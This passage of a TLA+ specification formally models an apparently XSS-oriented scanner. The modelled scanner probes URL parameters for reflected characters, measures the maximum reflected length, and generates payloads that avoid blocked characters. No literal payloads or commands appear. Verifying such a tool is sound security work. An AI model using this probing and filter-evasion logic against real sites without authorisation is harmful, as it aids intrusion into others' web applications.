OneParam == Target("http://h/b?r=1", <<"r">>)
ScanTargets == {<<TwoParams>>, <<TwoParams, OneParam>>, <<OneParam, TwoParams>>}


\* how many calls of analyze_parameter the environment may fail (a closed
\* standard output at line 1018, no socket for the connector of line 1020)
MaxErrors == 1

\* the characters of the built-in catalog a server is tried with: it
\* reflects nothing, lowercase letters only, all but angle brackets, all, or
\* the alphanumeric characters and < > " ' ( ) = / only
ScanReflections ==
    {{}, CHOOSE c \in Chunks : "a" \in c, DefaultUniverse \ {"<", ">"}, DefaultUniverse,
     Chars(Group(DefaultCharGroups, "basic")) \cup {"<", ">", "\"", "'", "(", ")", "=", "/"}}

\* the characters of the strings quick_test_scripts or quick_test_events sends
TestAlphabet(q) == UNION {Chars(test_payloads(q)[i]) : i \in 1 .. Len(test_payloads(q))}

\* lines 1026-1076 on a server that answers every probe and reflects chars:
\* the gate fails if no sampled character is reflected; the script and event
\* tests are true as soon as a character of their strings is reflected, and
\* the length test returns 5000 if 'A' is reflected and 9 if not
ProfileOf(url, param, chars) ==
    IF Chars(sample_chars(DefaultCharGroups)) \cap chars = {}
    THEN GateFailedProfile(url, param)
    ELSE SweptProfile(url, param, chars, DefaultUniverse \ chars,
                      TestAlphabet("scripts") \cap chars # {},
                      TestAlphabet("events") \cap chars # {},
                      IF "A" \in chars THEN Some(LengthHigh) ELSE Some(LengthLow - 1))

\* the printable ASCII characters in the order of their code points, 32 to 126
Printable ==
    <<" ", "!", "\"", "#", "$", "%", "&", "'", "(", ")", "*", "+", ",", "-", ".", "/", "0",
    "1", "2", "3", "4", "5", "6", "7", "8", "9", ":", ";", "<", "=", ">", "?", "@", "A", "B",
    "C", "D", "E", "F", "G", "H", "I", "J", "K", "L", "M", "N", "O", "P", "Q", "R", "S", "T",
    "U", "V", "W", "X", "Y", "Z", "[", "\\", "]", "^", "_", Backtick, "a", "b", "c", "d", "e",
    "f", "g", "h", "i", "j", "k", "l", "m", "n", "o", "p", "q", "r", "s", "t", "u", "v", "w",
    "x", "y", "z", "{", "|", "}", "~">>

\* ord(c), the code point of a character
CodePoints ==
    [c \in Chars(Printable) \cup {NUL, TAB, LF, VT, FF, CR, LeftAngleBracket, RightAngleBracket} |->
        CASE c = NUL -> 0
          [] c = TAB -> 9
          [] c = LF -> 10
          [] c = VT -> 11
          [] c = FF -> 12
          [] c = CR -> 13
          [] c = LeftAngleBracket -> 12296
          [] c = RightAngleBracket -> 12297
          [] OTHER -> 31 + CHOOSE i \in 1 .. Len(Printable) : Printable[i] = c]
Ord(c) == CodePoints[c]

\* s < t for two Python strings: the order sorted() puts the payloads in,
\* hence the order of their lines in the file (line 1161)
Precedes(s, t) ==
    LET differ == {i \in 1 .. Min(Len(s), Len(t)) : s[i] # t[i]}
    IN  IF differ = {} THEN Len(s) < Len(t)
        ELSE \E i \in differ : /\ \A j \in differ : i <= j
                                /\ Ord(s[i]) < Ord(t[i])

\* payload.replace('\n', '').replace('\r', '').strip()
WithoutNewlines(payload) == SelectSeq(payload, LAMBDA c : c \notin {LF, CR})
Strip(text) ==
    LET solid == {i \in 1 .. Len(text) : text[i] \notin Whitespace}
    IN  IF solid = {} THEN <<>>
        ELSE SubSeq(text, CHOOSE i \in solid : \A j \in solid : i <= j,
                          CHOOSE i \in solid : \A j \in solid : j <= i)
stripped_payload(payload) == Strip(WithoutNewlines(payload))

\* str.lower() on the ASCII letters
Lower(c) ==
    IF c \in DOMAIN CodePoints /\ Ord(c) \in 65 .. 90 THEN Printable[Ord(c) + 1] ELSE c
RECURSIVE AsString(_)
AsString(text) == IF text = <<>> THEN "" ELSE text[1] \o AsString(Tail(text))

\* a character file as open() finds it: no path given, no such file, a file
\* that cannot be read or decoded, or the lines of a text
NoFile == [kind |-> "none", lines |-> <<>>]
MissingFile == [kind |-> "missing", lines |-> <<>>]
UnreadableFile == [kind |-> "unreadable", lines |-> <<>>]
TextFile(lines) == [kind |-> "text", lines |-> lines]

\* custom_chars[group] = chars: a new key goes last, an old one keeps its place
GroupSet(groups, name, chars) ==
    IF HasGroup(groups, name)
    THEN [g \in 1 .. Len(groups) |->
            IF groups[g].name = name THEN [name |-> name, chars |-> chars] ELSE groups[g]]
    ELSE Append(groups, [name |-> name, chars |-> chars])

\* lines 222-227: the characters of the line not yet in the group are added
RECURSIVE AddUnseen(_, _)
AddUnseen(chars, line) ==
    IF line = <<>> THEN chars
    ELSE AddUnseen(IF line[1] \in Chars(chars) THEN chars ELSE Append(chars, line[1]),
                   Tail(line))

\* lines 214-227: the loop over the lines of the file
RECURSIVE ReadLines(_, _, _)
ReadLines(lines, custom_chars, current_group) ==
    IF lines = <<>> THEN custom_chars
    ELSE LET line == Strip(lines[1])
         IN  IF line = <<>> \/ line[1] = "#"
             THEN ReadLines(Tail(lines), custom_chars, current_group)
             ELSE IF line[1] = "[" /\ line[Len(line)] = "]"
             THEN LET name == AsString([i \in 1 .. Len(Strip(SubSeq(line, 2, Len(line) - 1))) |->
                                          Lower(Strip(SubSeq(line, 2, Len(line) - 1))[i])])
                  IN  ReadLines(Tail(lines), GroupSet(custom_chars, name, <<>>), Some(name))
             ELSE IF current_group \notin {None, Some("")}
             THEN LET name == CHOOSE n \in current_group : TRUE
                  IN  ReadLines(Tail(lines),
                                GroupSet(custom_chars, name,
                                         AddUnseen(Group(custom_chars, name), line)),
                                current_group)
             ELSE ReadLines(Tail(lines), custom_chars, current_group)

\* lines 207-234: the catalog the analyzer gets (line 564). self.char_groups
\* of the loader is the built-in catalog
load_from_file(file) ==
    CASE file.kind = "none" -> DefaultCharGroups
      [] file.kind = "missing" -> DefaultCharGroups
      [] file.kind = "unreadable" -> DefaultCharGroups
      [] OTHER -> LET custom_chars == ReadLines(file.lines, <<>>, None)
                  IN  IF custom_chars # <<>> THEN custom_chars ELSE DefaultCharGroups

\* the character files tried: none, a missing one, an unreadable one, a text
\* without any [section], and a text whose only section is not 'basic'
HeadlessText == TextFile(<< <<"#", " ", "x">>, <<"<", ">">> >>)
SpecialOnlyText ==
    TextFile(<< <<"#", " ", "x">>, <<>>, <<"[", " ", "S", "p", "e", "c", "i", "a", "l", "]", " ">>,
                <<" ", "<", "<", ">">>, <<">">> >>)
CharFiles == {NoFile, MissingFile, UnreadableFile, HeadlessText, SpecialOnlyText}
ScanCatalogs == {load_from_file(file) : file \in CharFiles}

(***************************************************************************)
(* filter_urls (lines 58-87) on the lines of a URL list, and the two       *)
(* parsers of a query string: parse_qs in filter_urls, the split of        *)
(* extract_parameters in the analyzer                                      *)
(***************************************************************************)
\* the first index of text that holds one of marks, Len(text) + 1 if none
IndexOf(text, marks) ==
    LET hits == {i \in 1 .. Len(text) : text[i] \in marks}
    IN  IF hits = {} THEN Len(text) + 1 ELSE CHOOSE i \in hits : \A j \in hits : i <= j
StartsWith(text, prefix) ==
    Len(text) >= Len(prefix) /\ SubSeq(text, 1, Len(prefix)) = prefix

\* line 63: re.compile(r'^https?://').match(url)
url_pattern(url) ==
    \/ StartsWith(url, <<"h", "t", "t", "p", ":", "/", "/">>)
    \/ StartsWith(url, <<"h", "t", "t", "p", "s", ":", "/", "/">>)

\* line 64: re.compile(r'[^\w\-./&?=%]').findall(url), as the places found
WordChars ==
    {c \in Chars(Printable) : Ord(c) \in (48 .. 57) \cup (65 .. 90) \cup (97 .. 122)} \cup {"_"}
special_chars(url) ==
    {i \in 1 .. Len(url) : url[i] \notin WordChars \cup {"-", ".", "/", "&", "?", "=", "%"}}

\* urllib.parse.urlparse on a URL that url_pattern matches: the network
\* location ends at the first of / ? #, then the fragment is split off at
\* the first #, the query at the first ?, and the parameters of the last
\* path segment at its first semicolon. ok is FALSE where urlparse raises
\* ValueError (a bracket without its partner in the network location)
urlparse(url) ==
    LET colon == IndexOf(url, {":"})
        rest == SubSeq(url, colon + 3, Len(url))
        stop == IndexOf(rest, {"/", "?", "#"})
        netloc == SubSeq(rest, 1, stop - 1)
        tail == SubSeq(rest, stop, Len(rest))
        hash == IndexOf(tail, {"#"})
        mark == IndexOf(SubSeq(tail, 1, hash - 1), {"?"})
        whole == SubSeq(tail, 1, Min(hash, mark) - 1)
        slashes == {i \in 1 .. Len(whole) : whole[i] = "/"}
        segment == IF slashes = {} THEN 1
                   ELSE CHOOSE i \in slashes : \A j \in slashes : j <= i
        semi == segment - 1 + IndexOf(SubSeq(whole, segment, Len(whole)), {";"})
    IN  [ok |-> ("[" \in Chars(netloc)) = ("]" \in Chars(netloc)),
         scheme |-> SubSeq(url, 1, colon - 1),
         netloc |-> netloc,
         path |-> SubSeq(whole, 1, semi - 1),
         query |-> SubSeq(tail, mark + 1, hash - 1)]

\* line 74: f"{parsed.scheme}://{parsed.netloc}{parsed.path}"
base_url(parsed) == parsed.scheme \o <<":", "/", "/">> \o parsed.netloc \o parsed.path

\* text.split at every character of marks
RECURSIVE Split(_, _)
Split(text, marks) ==
    IF IndexOf(text, marks) > Len(text) THEN <<text>>
    ELSE <<SubSeq(text, 1, IndexOf(text, marks) - 1)>>
         \o Split(SubSeq(text, IndexOf(text, marks) + 1, Len(text)), marks)

\* urllib.parse.unquote on escapes of printable ASCII characters; any other
\* text stays as it is
HexDigits == <<"0", "1", "2", "3", "4", "5", "6", "7", "8", "9", "a", "b", "c", "d", "e", "f">>
IsHex(c) == Lower(c) \in Chars(HexDigits)
HexValue(c) == (CHOOSE i \in 1 .. Len(HexDigits) : HexDigits[i] = Lower(c)) - 1
RECURSIVE unquote(_)
unquote(text) ==
    IF text = <<>> THEN <<>>
    ELSE IF /\ text[1] = "%" /\ Len(text) >= 3 /\ IsHex(text[2]) /\ IsHex(text[3])
            /\ 16 * HexValue(text[2]) + HexValue(text[3]) \in 32 .. 126
    THEN <<Printable[16 * HexValue(text[2]) + HexValue(text[3]) - 31]>>
         \o unquote(SubSeq(text, 4, Len(text)))
    ELSE <<text[1]>> \o unquote(Tail(text))

\* the name of a name=value pair: the text before the first =, or all of it
PairName(pair) == SubSeq(pair, 1, IndexOf(pair, {"="}) - 1)

\* line 78: the keys of parse_qs(query, keep_blank_values=True). The pairs
\* are split at & only, and a + in a name stands for a space
parse_qs(query) ==
    LET pairs == Split(query, {"&"})
    IN  {unquote([i \in 1 .. Len(PairName(pairs[k])) |->
                    IF PairName(pairs[k])[i] = "+" THEN " " ELSE PairName(pairs[k])[i]]) :
            k \in {n \in 1 .. Len(pairs) : pairs[n] # <<>>}}

\* lines 695-716: the keys of extract_parameters(url). The pairs are split
\* at & and at ;
ParameterNames(url) ==
    LET pairs == Split(urlparse(url).query, {"&", ";"})
    IN  IF ~urlparse(url).ok THEN {}
        ELSE {unquote(PairName(pairs[k])) : k \in {n \in 1 .. Len(pairs) : pairs[n] # <<>>}}

\* lines 79: the pattern filter_urls keeps one URL of
Pattern(url) == <<base_url(urlparse(url)), parse_qs(urlparse(url).query)>>

\* lines 66-72 and 76: a line the loop goes on to take the pattern of
HasPattern(line) ==
    /\ Strip(line) # <<>>
    /\ url_pattern(Strip(line))
    /\ 2 * Cardinality(special_chars(Strip(line))) <= Len(Strip(line))
    /\ urlparse(Strip(line)).ok
    /\ urlparse(Strip(line)).query # <<>>

\* the lines of the lists tried: two URLs that differ in a value only, two
\* more parameter names, a query with a semicolon, no query, another scheme,
\* a value of special characters, an escaped name with a fragment and path
\* parameters, a network location that urlparse rejects
PlainUrl ==
    <<" ", "h", "t", "t", "p", ":", "/", "/", "h", "/", "a", "?", "p", "=", "1", LF>>
OtherValueUrl ==
    <<"h", "t", "t", "p", ":", "/", "/", "h", "/", "a", "?", "p", "=", "2", LF>>
TwoNamesUrl ==
    <<"h", "t", "t", "p", ":", "/", "/", "h", "/", "a", "?", "q", "=", "1", "&", "p", "=", "3",
    LF>>
SemicolonUrl ==
    <<"h", "t", "t", "p", ":", "/", "/", "h", "/", "a", "?", "p", "=", "1", ";", "q", "=", "2",
    LF>>
NoQueryUrl ==
    <<"h", "t", "t", "p", ":", "/", "/", "h", "/", "a", LF>>
FtpUrl ==
    <<"f", "t", "p", ":", "/", "/", "h", "/", "a", "?", "p", "=", "1", LF>>
NoisyUrl ==
    <<"h", "t", "t", "p", ":", "/", "/", "h", "/", "a", "?", "p", "=", "<", "<", "<", "<", "<",
    "<", "<", "<", "<", "<", "<", "<", "<", "<", LF>>
EscapedNameUrl ==
    <<"h", "t", "t", "p", "s", ":", "/", "/", "h", "/", "a", ";", "v", "?", "%", "7", "0", "=",
    "4", "&", "+", "#", "f", LF>>
BracketUrl ==
    <<"h", "t", "t", "p", ":", "/", "/", "[", "h", "/", "a", "?", "p", "=", "1", LF>>

UrlLines == {PlainUrl, OtherValueUrl, TwoNamesUrl, SemicolonUrl, NoQueryUrl, FtpUrl, NoisyUrl,
             EscapedNameUrl, BracketUrl}
MaxUrls == 3
UrlLists == UNION {[1 .. n -> UrlLines] : n \in 1 .. MaxUrls}

FilterIdle ==
    /\ raw_urls = <<>>
    /\ fpc = "idle"
    /\ fi = 0
    /\ filtered = <<>>
    /\ seen_patterns = {}
    /\ no_params_count = 0

\* lines 1160-1165: the file after the loop, as the line written for each
\* payload that has one (the order of the lines is left out)
WrittenLines(ps) ==
    LET line == [p \in ps |-> stripped_payload(p)]
    IN  [p \in {q \in ps : line[q] # <<>>} |-> line[p]]

\* lines 1095-1103: the lines that are blank once stripped are dropped
remove_empty_lines(lines) ==
    [p \in {q \in DOMAIN lines : Strip(lines[q]) # <<>>} |-> lines[p]]

\* sum(len(param_payloads) for param_payloads in result.values())
RECURSIVE CountPayloads(_)
CountPayloads(result) ==
    IF DOMAIN result = {} THEN 0
    ELSE LET param == CHOOSE k \in DOMAIN result : TRUE
         IN  Cardinality(result[param])
             + CountPayloads([k \in (DOMAIN result) \ {param} |-> result[k]])

\* lines 1140-1144: what process_urls keeps of the result of analyze_url
Recorded(url, result) ==
    IF DOMAIN result # {}
    THEN [run_results |-> DictSet(run_results, url, result),
          total_payloads |-> total_payloads + CountPayloads(result),
          unique_payloads |-> unique_payloads \cup UNION {result[k] : k \in DOMAIN result}]
    ELSE [run_results |-> run_results,
          total_payloads |-> total_payloads,
          unique_payloads |-> unique_payloads]

(***************************************************************************)
(* The components at rest, and the initial states of each specification    *)
(***************************************************************************)
LengthIdle ==
    /\ oracle = None
    /\ left = 0
    /\ right = 0
    /\ lpc = "idle"
    /\ max_length = None
    /\ consulted = <<>>

SynthIdle ==
    /\ analysis = GateFailedProfile("", "")
    /\ payloads = {}
    /\ spc = "idle"

NoProbe ==
    [via |-> "none", char |-> "", requested |-> FALSE, basis |-> None, value |-> FALSE,
     raised |-> FALSE]

ProbeIdle ==
    /\ probe = NoProbe
    /\ answered = <<>>
    /\ probes = 0

RunIdle ==
    /\ urls = <<>>
    /\ rpc = "idle"
    /\ ui = 0
    /\ pi = 0
    /\ url_results = EmptyDict
    /\ run_results = EmptyDict
    /\ total_payloads = 0
    /\ unique_payloads = {}
    /\ output = None
    /\ errors = 0
    /\ attempted = {}
    /\ synthesized = EmptyDict
    /\ served = EmptyDict
    /\ file_path = NoFile

(***************************************************************************)
(* CacheManager under calls of get, set and clear_expired                  *)
(***************************************************************************)
CacheInit == CacheStart /\ LengthIdle /\ SynthIdle /\ ParamIdle /\ ProbeIdle /\ RunIdle /\ NetIdle /\ FilterIdle

Get(key) ==
    /\ cache' = CacheGetCache(cache, key, now)
    /\ ret' = [op |-> "get", key |-> key,
               result |-> CacheGetResult(cache, key, now),
               purged |-> key \in DOMAIN cache /\ key \notin DOMAIN cache']
    /\ UNCHANGED <<now, ticks, lastSet, notCache>>

Set(key, value) ==
    /\ cache' = CacheSet(cache, key, value, now)
    /\ lastSet' = [lastSet EXCEPT ![key] = Some(Entry(value, now))]
    /\ ret' = [op |-> "set", key |-> key, result |-> None, purged |-> FALSE]
    /\ UNCHANGED <<now, ticks, notCache>>

ClearExpired ==
    /\ cache' = CacheClearExpired(cache, now)
    /\ ret' = [op |-> "clear_expired", key |-> "", result |-> None, purged |-> FALSE]
    /\ UNCHANGED <<now, ticks, lastSet, notCache>>

\* time passes between two calls
Tick ==
    /\ ticks < MaxTicks
    /\ \E d \in TickSteps : now' = now + d
    /\ ticks' = ticks + 1
    /\ ret' = NoCall
    /\ UNCHANGED <<cache, lastSet, notCache>>

CacheNext ==
    \/ \E key \in Keys : Get(key)
    \/ \E key \in Keys, value \in BOOLEAN : Set(key, value)
    \/ ClearExpired
    \/ Tick

SpecCache == CacheInit /\ [][CacheNext]_vars

\* what the history says get(key) must return at time t
Expected(key, t) ==
    IF lastSet[key] # None /\ \E e \in lastSet[key] : t - e.timestamp <= ttl
    THEN {e.result : e \in lastSet[key]}
    ELSE None

\* C5: get(k) returns the value of the most recent set(k, v) when that set is
\* at most ttl seconds old, and None when k was never set or the set is older.
C5_GetReturnsLastFreshSet ==
    ret.op = "get" => ret.result = Expected(ret.key, now)

\* a get that returned the value set exactly ttl seconds before
C5_Witness ==
    /\ ret.op = "get"
    /\ ret.result # None
    /\ \E e \in lastSet[ret.key] : now - e.timestamp = ttl

\* C6: a get of an entry older than ttl removes exactly that entry, a get of
\* a fresh or missing key leaves the cache unchanged, and a get never returns
\* an entry older than ttl.
C6_GetFrame ==
    [][\A key \in Keys : Get(key) =>
          /\ IF key \in DOMAIN cache /\ now - cache[key].timestamp > ttl
             THEN /\ DOMAIN cache' = (DOMAIN cache) \ {key}
                  /\ \A k \in DOMAIN cache' : cache'[k] = cache[k]
             ELSE cache' = cache
          /\ ret'.result # None =>
                /\ key \in DOMAIN cache
                /\ now - cache[key].timestamp <= ttl]_vars

\* a get that purged a stale entry while another entry stayed in the cache
C6_Witness ==
    /\ ret.op = "get"
    /\ ret.purged
    /\ ret.result = None
    /\ DOMAIN cache # {}

(***************************************************************************)
(* quick_test_length under the answers of an oracle                        *)
(***************************************************************************)
LengthStart ==
    /\ oracle \in {None} \cup {Some(L) : L \in Thresholds}
    /\ left = LengthLow
    /\ right = LengthHigh
    /\ lpc = "loop"
    /\ max_length = None
    /\ consulted = <<>>

\* one turn of the while loop: the candidate is accepted
LengthAccepted ==
    /\ lpc = "loop"
    /\ left <= right
    /\ TRUE \in Answers(Mid(left, right))
    /\ left' = Mid(left, right) + 1
    /\ consulted' = Append(consulted, <<Mid(left, right), TRUE>>)
    /\ UNCHANGED <<oracle, right, lpc, max_length, notLength>>

\* one turn of the while loop: the candidate is rejected
LengthRejected ==
    /\ lpc = "loop"
    /\ left <= right
    /\ FALSE \in Answers(Mid(left, right))
    /\ right' = Mid(left, right) - 1
    /\ consulted' = Append(consulted, <<Mid(left, right), FALSE>>)
    /\ UNCHANGED <<oracle, left, lpc, max_length, notLength>>

\* the loop ends and the function returns
LengthReturn ==
    /\ lpc = "loop"
    /\ ~(left <= right)
    /\ max_length' = LengthResult(left, right)
    /\ lpc' = "done"
    /\ UNCHANGED <<oracle, left, right, consulted, notLength>>

LengthInit == LengthStart /\ CacheStart /\ SynthIdle /\ ParamIdle /\ ProbeIdle /\ RunIdle /\ NetIdle /\ FilterIdle

LengthNext == LengthAccepted \/ LengthRejected \/ LengthReturn

SpecLength == LengthInit /\ [][LengthNext]_vars

\* the answers consulted were those of the threshold L
Monotonic(L) == \A i \in 1 .. Len(consulted) : consulted[i][2] = (consulted[i][1] <= L)

\* C3: under answers that are monotonic with a threshold L in 10..5000, the
\* search returns exactly L.
C3_MonotonicReturnsThreshold ==
    \A L \in oracle :
        (lpc = "done" /\ LengthLow <= L /\ L <= LengthHigh /\ Monotonic(L))
            => max_length = Some(L)

\* a search that returned a threshold strictly inside the range
C3_Witness ==
    /\ lpc = "done"
    /\ \E L \in oracle : /\ LengthLow < L /\ L < LengthHigh
                         /\ Monotonic(L)
                         /\ max_length = Some(L)
                         /\ Len(consulted) > 1

\* C4: when every candidate of the range is rejected (a threshold below 10),
\* the search returns None.
C4_AllRejectedReturnsNone ==
    \A L \in oracle :
        (lpc = "done" /\ L < LengthLow /\ Monotonic(L)) => max_length = None

(***************************************************************************)
(* generate_payloads on each profile                                       *)
(***************************************************************************)
SynthStart ==
    /\ analysis \in SynthProfiles
    /\ payloads = {}
    /\ spc = "ready"

SynthInit == SynthStart /\ CacheStart /\ LengthIdle /\ ParamIdle /\ ProbeIdle /\ RunIdle /\ NetIdle /\ FilterIdle

\* payloads = self.generate_payloads(analysis)
Generate ==
    /\ spc = "ready"
    /\ payloads' = generate_payloads(analysis)
    /\ spc' = "done"
    /\ UNCHANGED <<analysis, notSynth>>

SynthNext == Generate

SpecPayloads == SynthInit /\ [][SynthNext]_vars

\* C1: every payload generate_payloads returns has no blocked character, is
\* no longer than max_length when max_length is set, and is not blank.
C1_PayloadsFiltered ==
    spc = "done" =>
        \A p \in payloads :
            /\ \A i \in 1 .. Len(p) : p[i] \notin analysis.blocked_chars
            /\ \A m \in analysis.max_length : Len(p) <= m
            /\ \E i \in 1 .. Len(p) : p[i] \notin Whitespace

\* a profile whose filter dropped a predefined and a dynamic payload and let
\* a predefined and a dynamic payload through
C1_Witness ==
    /\ spc = "done"
    /\ analysis.blocked_chars # {}
    /\ analysis.max_length # None
    /\ \E p \in get_predefined_payloads(analysis) : p \notin payloads
    /\ \E p \in generate_dynamic_payloads(analysis) : p \notin payloads
    /\ \E p \in get_predefined_payloads(analysis) : p \in payloads
    /\ \E p \in generate_dynamic_payloads(analysis) \ get_predefined_payloads(analysis) :
          p \in payloads

(***************************************************************************)
(* The probes called one after the other: test_single_char, and test_single*)
(* on the CacheManager of one call of test_chars_batch                     *)
(***************************************************************************)
\* the characters probed and the answers a request may come back with
ProbeChars == {"a", "<"}
ProbeResponses ==
    {Served(HttpOk, TRUE), Served(HttpOk, FALSE), Served(201, TRUE)} \cup FaultResponses

\* how many probes are called
MaxProbes == 2

ProbeInit ==
    /\ probe = NoProbe
    /\ answered = [ch \in ProbeChars |-> None]
    /\ probes = 0
    /\ CacheStart /\ LengthIdle /\ SynthIdle /\ ParamIdle /\ RunIdle /\ NetIdle /\ FilterIdle

\* test_single_char(url, param, char, session); the request comes back with resp
CallTestSingleChar(char, resp) ==
    /\ probes < MaxProbes
    /\ probes' = probes + 1
    /\ probe' = [via |-> "test_single_char", char |-> char, requested |-> TRUE,
                 basis |-> Some(resp),
                 value |-> test_single_char(resp).value,
                 raised |-> test_single_char(resp).raised]
    /\ UNCHANGED <<answered, cacheVars, notProbe>>

\* test_single(char, session), lines 981-1002: the cached result when the
\* cache holds one, and else the result of the request, which is cached
CallTestSingle(char, resp) ==
    /\ probes < MaxProbes
    /\ probes' = probes + 1
    /\ IF CacheGetResult(cache, cache_key(char), now) # None
       THEN /\ probe' = [via |-> "test_single", char |-> char, requested |-> FALSE,
                         basis |-> answered[char],
                         value |-> TRUE \in CacheGetResult(cache, cache_key(char), now),
                         raised |-> FALSE]
            /\ cache' = CacheGetCache(cache, cache_key(char), now)
            /\ UNCHANGED answered
       ELSE /\ probe' = [via |-> "test_single", char |-> char, requested |-> TRUE,
                         basis |-> Some(resp),
                         value |-> test_single(resp).value,
                         raised |-> test_single(resp).raised]
            /\ cache' = CacheSet(CacheGetCache(cache, cache_key(char), now),
                                 cache_key(char), test_single(resp).value, now)
            /\ answered' = [answered EXCEPT ![char] = Some(resp)]
    /\ UNCHANGED <<now, ticks, lastSet, ret, notProbe>>

ProbeNext ==
    \/ \E char \in ProbeChars, resp \in ProbeResponses : CallTestSingleChar(char, resp)
    \/ \E char \in ProbeChars, resp \in ProbeResponses : CallTestSingle(char, resp)
    \/ Tick

SpecProbe == ProbeInit /\ [][ProbeNext]_vars

\* C2: a probe (test_single_char, and test_single of test_chars_batch) returns
\* true only if the response its result is of has status 200 and holds the
\* doubled character; for a response of another status, a timeout or an
\* exception it returns false, and it never raises.
C2_ProbeFailsClosed ==
    probe.via # "none" =>
        /\ ~probe.raised
        /\ probe.basis # None
        /\ \A resp \in probe.basis :
              probe.value = (resp.kind = "response" /\ resp.status = 200 /\ resp.reflected)

\* a probe answered from the cache with the false result of an error page
\* that echoed the doubled character
C2_Witness ==
    /\ probe.via = "test_single"
    /\ ~probe.requested
    /\ ~probe.value
    /\ \E resp \in probe.basis : resp.kind = "response" /\ resp.status # 200 /\ resp.reflected

(***************************************************************************)
(* analyze_parameter on one parameter, then generate_payloads on its       *)
(* profile (the body of the loop of analyze_url, lines 1085-1089)          *)
(***************************************************************************)
ParamInit ==
    ParamStart /\ CacheStart /\ LengthIdle /\ SynthIdle /\ ProbeIdle /\ RunIdle /\ FilterIdle

\* lines 1026-1031: the gate's probes are created and send their requests;
\* a catalog without a 'basic' group raises KeyError at line 1026
AnalyzeStart ==
    /\ apc = "start"
    /\ IF HasGroup(char_groups, "basic")
       THEN /\ batch' = sample_chars(char_groups)
            /\ waiting' = 1 .. Len(batch')
            /\ sent' = AddSent(sent, batch', waiting')
            /\ apc' = "gate"
       ELSE /\ apc' = "raised"
            /\ UNCHANGED <<batch, waiting, sent>>
    /\ batch_results' = NoResults
    /\ SentThrough(parameter_session)
    /\ UNCHANGED <<swept, char_groups, reflects, faults, bi, initial_results, results, quick,
                   synthVars, notParam>>

\* the request of one test_single_char of the gather in progress, sent over
\* a connection of the pool, completes
ProbeResponse(k) ==
    /\ apc \in {"gate", "sweep"}
    /\ k \in Pool(max_connections, waiting)
    /\ \E resp \in {Nominal(batch[k])} \cup {fr \in FaultResponses : faults > 0} :
          /\ batch_results' =
                [j \in (DOMAIN batch_results) \cup {k} |->
                    IF j = k THEN test_single_char(resp).value ELSE batch_results[j]]
          /\ faults' = IF resp = Nominal(batch[k]) THEN faults ELSE faults - 1
    /\ waiting' = waiting \ {k}
    /\ UNCHANGED <<swept, char_groups, reflects, apc, bi, batch, initial_results, results, quick,
                   sent, request_headers, synthVars, notParam>>

\* lines 1032-1045: no sampled character was reflected
GateFailed ==
    /\ apc = "gate"
    /\ waiting = {}
    /\ ~GatePassed(batch_results)
    /\ initial_results' = Some(batch_results)
    /\ analysis' = GateFailedProfile(Url, Param)
    /\ spc' = "ready"
    /\ apc' = "done"
    /\ UNCHANGED <<swept, char_groups, reflects, faults, bi, batch, waiting, batch_results, results,
                   quick, sent, request_headers, payloads, notParam>>

\* lines 1032 and 1046-1055: the gate passed, the first batch of the sweep
\* is gathered
GatePass ==
    /\ apc = "gate"
    /\ waiting = {}
    /\ GatePassed(batch_results)
    /\ initial_results' = Some(batch_results)
    /\ results' = NoResults
    /\ bi' = 1
    /\ batch' = SweepBatches(char_groups)[1]
    /\ waiting' = 1 .. Len(batch')
    /\ batch_results' = NoResults
    /\ sent' = AddSent(sent, batch', waiting')
    /\ apc' = "sweep"
    /\ SentThrough(parameter_session)
    /\ UNCHANGED <<swept, char_groups, reflects, faults, quick, synthVars, notParam>>

\* lines 1056 and 1048-1055: the results of a batch are recorded and the
\* next batch is gathered
SweepNext ==
    /\ apc = "sweep"
    /\ waiting = {}
    /\ bi < Len(SweepBatches(char_groups))
    /\ results' = DictUpdate(results, batch, batch_results)
    /\ swept' = Append(swept, batch_results)
    /\ bi' = bi + 1
    /\ batch' = SweepBatches(char_groups)[bi']
    /\ waiting' = 1 .. Len(batch')
    /\ batch_results' = NoResults
    /\ sent' = AddSent(sent, batch', waiting')
    /\ SentThrough(parameter_session)
    /\ UNCHANGED <<char_groups, reflects, faults, apc, initial_results, quick, synthVars,
                   notParam>>

\* lines 1056-1063: the results of the last batch are recorded and the three
\* tests are gathered; each begins its first call of test_chars_batch
SweepDone ==
    /\ apc = "sweep"
    /\ waiting = {}
    /\ bi = Len(SweepBatches(char_groups))
    /\ results' = DictUpdate(results, batch, batch_results)
    /\ swept' = Append(swept, batch_results)
    /\ LET scripts == BeginCall("scripts", TestStart("scripts"), now)
           events == BeginCall("events", TestStart("events"), now)
           length == BeginCall("length", TestStart("length"), now)
           sent1 == AddSent(sent, InFlight("scripts", scripts), scripts.waiting)
           sent2 == AddSent(sent1, InFlight("events", events), events.waiting)
       IN  /\ quick' = [q \in Tests |-> IF q = "scripts" THEN scripts
                                        ELSE IF q = "events" THEN events ELSE length]
           /\ sent' = AddSent(sent2, InFlight("length", length), length.waiting)
    /\ batch' = <<>>
    /\ batch_results' = NoResults
    /\ apc' = "quick"
    /\ SentThrough(batch_session)
    /\ UNCHANGED <<char_groups, reflects, faults, bi, waiting, initial_results, synthVars,
                   notParam>>

\* what test_single makes of a spoiled response
SpoiledValues == {test_single(fr).value : fr \in FaultResponses}

\* the responses a batch of test_chars_batch may be spoiled in: none, or
\* that of one character
FaultSets(chars, w) ==
    {{}} \cup {{k} : k \in {j \in w : /\ faults > 0
                                      /\ \A i \in w : chars[i] = chars[j] => j <= i}}

\* the result each character of the batch is left with in the cache: that of
\* the task of the character that completed last
LastValues(chars, values) ==
    LET probed == {chars[k] : k \in DOMAIN values}
        of(ch) == {values[k] : k \in {j \in DOMAIN values : chars[j] = ch}}
        unsure == {ch \in probed : Cardinality(of(ch)) > 1}
    IN  {[ch \in probed |-> IF ch \in unsure THEN pick[ch] ELSE CHOOSE v \in of(ch) : TRUE]
         : pick \in [unsure -> BOOLEAN]}

\* cache.set(cache_key, result) of the tasks of the batch, lines 994-1001
AfterResponses(c, last, t) ==
    [key \in (DOMAIN c) \cup {cache_key(ch) : ch \in DOMAIN last} |->
        IF key \in {cache_key(ch) : ch \in DOMAIN last}
        THEN Entry(last[key[3]], t)
        ELSE c[key]]

\* the requests of the batch a test awaits complete (lines 992-1002: each
\* result is cached under its key), the gather returns, and the test runs
\* up to its next requests or to its return
TestResponses(q) ==
    /\ apc = "quick"
    /\ quick[q].pc = "wait"
    /\ \E st \in {quick[q]} : \E chars \in {TestBatch(q, st, st.b)} :
       \E F \in FaultSets(chars, st.waiting) : \E spoiled \in [F -> SpoiledValues] :
       \E values \in {[k \in st.waiting |->
                         IF k \in F THEN spoiled[k]
